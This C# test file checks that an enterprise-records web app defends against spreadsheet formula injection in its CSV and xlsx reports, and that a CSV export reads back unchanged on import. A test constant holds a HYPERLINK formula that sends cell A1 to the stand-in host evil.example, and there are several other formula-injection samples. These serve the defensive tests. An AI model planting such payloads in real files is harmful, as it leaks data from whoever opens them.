using Jindong.Enterprises.Testing;
using System.IO.Compression;
using System.Text;
using Jindong.Enterprises.Application.Enterprises;
using Jindong.Enterprises.Application.Export;
using Jindong.Enterprises.Application.Tables;
using Jindong.Enterprises.Application.Figures;
using Jindong.Enterprises.Application.Import;
using Jindong.Enterprises.Web.Tests.Support;
using Microsoft.Extensions.DependencyInjection;

namespace Jindong.Enterprises.Web.Tests.Security;

/// <summary>
/// A firm named like a spreadsheet formula cannot run in the Excel of whoever opens a report or an
/// export: CSV text cells get OWASP's leading apostrophe, .xlsx holds them as plain strings, and
/// the import reads its own export back unchanged.
/// </summary>
public sealed class SpreadsheetInjectionTests(SecurityWebFactory app) : IClassFixture<SecurityWebFactory>
{
    private const string Hyperlink = "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击查看\")";

    private static readonly string[] Formulas = [Hyperlink, "+1+1有限公司", "-2+3有限公司", "@SUM(A1)有限公司"];

    [Fact]
    public async Task A_report_as_csv_neutralizes_formula_like_text_and_keeps_numbers_as_numbers()
    {
        var names = await RegisterFormulaFirmsAsync(2019);
        var client = await app.SignedInClientAsync("admin");

        var csv = await client.GetStringAsync("/api/reports/gaps?year=2019&format=csv");

        var rows = csv.Split('\n', StringSplitOptions.RemoveEmptyEntries).Select(Cells).ToList();
        foreach (var name in names)
        {
            // The report's columns: 编号, 企业名称, 乡镇街道, 培育目标, 最近产值, 数据年份, 目标门槛 …
            var row = Assert.Single(rows, r => r[1] == "'" + name);
            Assert.Equal(["12000", "2019", "100000"], row.Skip(4).Take(3));
        }

        Assert.DoesNotContain(rows, r => r.Any(c => c.Length > 0 && c[0] is '=' or '+' or '@'));
    }

    [Fact]
    public async Task A_report_as_xlsx_holds_formula_like_text_as_strings_and_no_formula()
    {
        var registered = await RegisterFormulaFirmsAsync(2018);
        var client = await app.SignedInClientAsync("admin");

        var bytes = await client.GetByteArrayAsync("/api/reports/gaps?year=2018&format=xlsx");

        using var workbook = new ZipArchive(new MemoryStream(bytes));
        var sheet = workbook.Entries.Single(e => e.FullName.StartsWith("xl/worksheets/", StringComparison.Ordinal) && e.FullName.EndsWith(".xml", StringComparison.Ordinal));
        using var reader = new StreamReader(sheet.Open());
        var xml = await reader.ReadToEndAsync();
        Assert.DoesNotContain("<f>", xml, StringComparison.Ordinal);
        Assert.DoesNotContain("<f ", xml, StringComparison.Ordinal);
        using var file = ReadXlsx(bytes);
        // The title lines and the units row around the header hold no firm.
        var names = file.ReadRows().Where(r => r.Cells.Count > 1).Select(r => r.Cells[1]).ToList();
        Assert.All(registered, name => Assert.Contains(name, names));
    }

    [Fact]
    public async Task Figures_exported_as_csv_import_back_unchanged_however_their_firms_are_named()
    {
        var names = await RegisterFormulaFirmsAsync(2017);
        var path = Path.Combine(Path.GetTempPath(), $"jindong-export-{Guid.NewGuid():N}.csv");
        try
        {
            int exported;
            await using (var file = File.Create(path))
            {
                exported = await app.SendAsAdminAsync(new ExportFigures(2017, TabularFormat.Csv) { Output = file });
            }

            var text = await File.ReadAllTextAsync(path, Encoding.UTF8);
            var rows = text.Split('\n', StringSplitOptions.RemoveEmptyEntries).Skip(1).Select(Cells).ToList();
            Assert.Equal(names.Select(n => "'" + n).Order(StringComparer.Ordinal), rows.Select(r => r[0]).Order(StringComparer.Ordinal));
            Assert.All(rows, r => Assert.Equal("12000", r[3]));

            await using var content = File.OpenRead(path);
            var outcome = await app.SendAsAdminAsync(new ImportAnnualFigures("2017.csv", 2017) { Content = content });

            Assert.Equal((exported, 0, 0, exported, 0), (outcome.Rows, outcome.Added, outcome.Corrected, outcome.Unchanged, outcome.Registered));
        }
        finally
        {
            File.Delete(path);
        }
    }

    [Theory]
    [InlineData("=1+1", "'=1+1")]
    [InlineData("+86 579", "'+86 579")]
    [InlineData("-5+1", "'-5+1")]
    [InlineData("-5", "-5")]
    [InlineData("-12.5", "-12.5")]
    [InlineData("@cmd", "'@cmd")]
    [InlineData("\t=1", "'\t=1")]
    [InlineData("浙江大众齿轮有限公司", "浙江大众齿轮有限公司")]
    [InlineData("'plain", "'plain")]
    public void Text_that_starts_like_a_formula_gets_one_apostrophe_and_restores_exactly(string text, string neutralized)
    {
        Assert.Equal(neutralized, SpreadsheetText.Neutralize(text));
        Assert.Equal(text, SpreadsheetText.Restore(SpreadsheetText.Neutralize(text)));
    }

    /// <summary>Firms with formula-like names (the year keeps them unique), a 超10亿元 target and <paramref name="year"/>'s figures, so they are in that year's gap report.</summary>
    private async Task<List<string>> RegisterFormulaFirmsAsync(int year)
    {
        var names = Formulas.Select(f => f + year.ToString(System.Globalization.CultureInfo.InvariantCulture)).ToList();
        foreach (var name in names)
        {
            var id = await app.SendAsAdminAsync(new RegisterEnterprise(name, SecurityWebFactory.Township, Target: "超10亿元"));
            await app.SendAsAdminAsync(RecordFigures.Of(id, year, 12_000m));
        }

        return names;
    }

    private ITabularFile ReadXlsx(byte[] bytes) =>
        app.Services.GetRequiredService<ITabularReader>().Open(new MemoryStream(bytes), "report.xlsx", null);

    /// <summary>The cells of one CSV line (RFC 4180 quotes).</summary>
    private static List<string> Cells(string line)
    {
        var cells = new List<string>();
        var cell = new StringBuilder();
        var quoted = false;
        for (var i = 0; i < line.Length; i++)
        {
            var c = line[i];
            if (quoted && c == '"' && i + 1 < line.Length && line[i + 1] == '"')
            {
                cell.Append('"');
                i++;
            }
            else if (c == '"')
            {
                quoted = !quoted;
            }
            else if (c == ',' && !quoted)
            {
                cells.Add(cell.ToString());
                cell.Clear();
            }
            else if (c != '\r' && c != '\uFEFF')
            {
                cell.Append(c);
            }
        }

        cells.Add(cell.ToString());
        return cells;
    }
}
